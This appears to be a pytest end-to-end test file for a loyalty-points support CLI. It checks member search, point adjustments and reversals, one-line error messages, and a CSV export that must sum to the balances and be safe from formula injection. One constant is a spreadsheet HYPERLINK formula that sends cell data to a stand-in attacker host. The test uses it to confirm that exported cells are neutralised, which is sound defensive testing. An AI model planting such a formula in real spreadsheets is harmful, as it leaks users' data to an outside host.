"""`pointbridge members | adjust | reverse | export` against a sandbox: the CLI says what the API says, the
CSV export's sums equal the balances and cannot run as formulas, and refusals are one line."""

from __future__ import annotations

import csv
import io
import json
from collections import defaultdict
from typing import TYPE_CHECKING, Any

import pytest

from pointbridge.cli import main
from pointbridge.members import safe_cell
from shared.access.keys import AdminRole, PrincipalKind
from tests.support.desk import EMAIL, PROGRAM, REDEMPTION, desk_api

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.support.http_api import HttpApi

pytestmark = pytest.mark.e2e
TRAP = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def api() -> Iterator[HttpApi]:
    with desk_api() as http:
        yield http


@pytest.fixture
def cli(api: HttpApi, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., Any]:
    monkeypatch.setenv("POINTBRIDGE_API_URL", api.sandbox.api_url)
    monkeypatch.setenv("POINTBRIDGE_API_KEY", api.key(PrincipalKind.ADMIN, "agent-cli", role=AdminRole.SUPPORT))

    def run(*args: str, code: int = 0) -> tuple[str, str]:
        capsys.readouterr()
        assert main(list(args)) == code
        out, err = capsys.readouterr()
        assert "Traceback" not in out + err
        return out, err

    return run


def test_support_works_from_the_command_line(api: HttpApi, cli: Callable[..., Any], tmp_path: Path) -> None:
    # Search by e-mail (sent in a body, hashed by the API)
    out, _ = cli("members", "search", PROGRAM, "--email", EMAIL.lower())
    assert out == "ann: 720 points, tier member\n"
    out, _ = cli("members", "search", PROGRAM, "--email", "nobody@example.com", code=1)
    assert "no member" in out
    # Adjust and reverse with reasons; a formula in a reason is kept as text
    out, _ = cli("adjust", PROGRAM, "ann", "30", "--reason", TRAP)
    assert out.startswith("+30 points: Points added by customer service") and out.endswith("available now 750\n")
    out, _ = cli("adjust", PROGRAM, "bob", "-40", "--reason", "+double credit")
    assert "Points deducted by customer service" in out
    out, _ = cli("reverse", PROGRAM, "ann", REDEMPTION, "--reason", "mug arrived broken")
    assert out.startswith("+300 points: Reversed by customer service: mug arrived broken")
    # Refusals: one line each, with the API's problem code
    _, err = cli("reverse", PROGRAM, "ann", REDEMPTION, "--reason", "again", code=1)
    assert err == f"error: {REDEMPTION} was reversed before (409 already_reversed)\n"
    _, err = cli("adjust", PROGRAM, "ann", "-99999", "--reason", "typo", code=1)
    assert err.count("\n") == 1 and "(422 insufficient_points)" in err
    _, err = cli("adjust", PROGRAM, "ann", "5", "--reason", "   ", code=1)
    assert err == "error: --reason is empty: every support action records why\n"
    _, err = cli("adjust", "nope", "ann", "5", "--reason", "x", code=1)
    assert "(404 unknown_program)" in err
    _, err = cli("adjust", PROGRAM, "nobody", "5", "--reason", "x", code=1)
    assert "(404 unknown_member)" in err
    _, err = cli("export", PROGRAM, code=1)
    assert err.startswith("error: name the members to export")
    # `members show` agrees with the API's statement, line for line
    out, _ = cli("members", "show", PROGRAM, "ann", "--json")
    shown = json.loads(out)
    served = api.ok("GET", f"/programs/{PROGRAM}/members/ann/statement", api.key(PrincipalKind.ADMIN, "agent-cli",
                    role=AdminRole.SUPPORT), query={"limit": "100"})["entries"]  # fmt: skip
    assert shown["entries"] == served
    out, _ = cli("members", "show", PROGRAM, "ann")
    assert out.splitlines()[1].startswith("  available 1050,")
    for entry in served:
        assert entry["explanation"] in out
    out, _ = cli("members", "show", PROGRAM, "ann", "--lang", "zh-CN")
    assert "客服撤销：mug arrived broken" in out


def test_the_csv_export_sums_to_the_balances_and_runs_no_formula(
    api: HttpApi, cli: Callable[..., Any], tmp_path: Path
) -> None:
    target = tmp_path / "entries.csv"
    _, err = cli("export", PROGRAM, "--member", "ann", "--member", "bob", "--member", "cy", "--out", str(target))
    assert err.startswith("wrote ")
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    sums: dict[str, int] = defaultdict(int)
    for row in rows:
        sums[row["member"]] += int(row["points"])
    agent = api.key(PrincipalKind.ADMIN, "agent-cli", role=AdminRole.SUPPORT)
    for member in ("ann", "bob", "cy"):
        balance = api.ok("GET", f"/programs/{PROGRAM}/members/{member}/balance", agent)
        assert sums[member] == balance["available"] + balance["pending"] + balance["held"], member
        assert int([r for r in rows if r["member"] == member][-1]["balance_after"]) == balance["available"]
    # No text cell starts like a formula; the reasons that did are kept, quoted
    text_columns = ("program", "member", "entry_id", "kind", "source", "title", "detail", "reason")
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    assert "'" + TRAP in [row["reason"] for row in rows]
    assert "'+double credit" in [row["reason"] for row in rows]
    # And deductions stay numbers that sum
    assert any(row["points"].startswith("-") for row in rows)


def test_safe_cells() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("mug") == "mug" and safe_cell("") == ""
